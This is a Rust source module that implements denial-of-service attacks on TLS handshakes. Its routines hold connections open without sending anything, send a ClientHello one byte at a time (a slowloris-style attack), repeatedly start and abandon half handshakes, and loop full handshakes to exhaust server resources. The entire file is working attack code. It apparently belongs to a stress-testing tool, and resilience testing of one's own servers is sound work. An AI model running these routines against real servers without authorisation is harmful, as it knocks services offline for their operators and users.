//! Attacks on TLS handshakes.

use std::future::pending;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::time::sleep;
use tokio_rustls::rustls::ClientConnection;
use tokio_rustls::rustls::pki_types::ServerName;

use super::attack::Attacker;
use crate::problem::{Problem, to_problem};

/// The time between two bytes of a slow handshake, and after which an attacker comes again.
const SLOW: Duration = Duration::from_millis(100);
const AGAIN: Duration = Duration::from_millis(20);

/// Connects and sends nothing of its handshake.
pub(super) async fn silent(it: Attacker) -> Result<(), Problem> {
    let _stream = it.route.connect_tcp().await?;
    pending().await
}

/// Sends its handshake byte by byte, as far as it gets.
pub(super) async fn slow_handshake(it: Attacker) -> Result<(), Problem> {
    let hello = client_hello(&it)?;
    loop {
        let mut stream = it.route.connect_tcp().await?;
        for byte in &hello {
            if stream.write_all(&[*byte]).await.is_err() {
                break;
            }
            sleep(SLOW).await;
        }
    }
}

/// Lets the server answer the beginning of a handshake, and leaves.
pub(super) async fn half_handshake(it: Attacker) -> Result<(), Problem> {
    let hello = client_hello(&it)?;
    loop {
        let mut stream = it.route.connect_tcp().await?;
        stream.write_all(&hello).await.map_err(to_problem)?;
        sleep(AGAIN).await;
    }
}

/// Ends its handshake and leaves.
pub(super) async fn handshakes(it: Attacker) -> Result<(), Problem> {
    loop {
        // A handshake that is refused is tried again.
        let _ = it.route.connect().await;
        sleep(AGAIN).await;
    }
}

/// Returns the first message of a handshake.
fn client_hello(it: &Attacker) -> Result<Vec<u8>, Problem> {
    let tls = it.route.tls.as_ref().ok_or("a server without TLS")?;
    let name = ServerName::from(it.route.address.ip());
    let config = Arc::clone(tls.config());
    let mut connection = ClientConnection::new(config, name).map_err(to_problem)?;
    let mut hello = Vec::new();
    connection.write_tls(&mut hello).map_err(to_problem)?;
    Ok(hello)
}
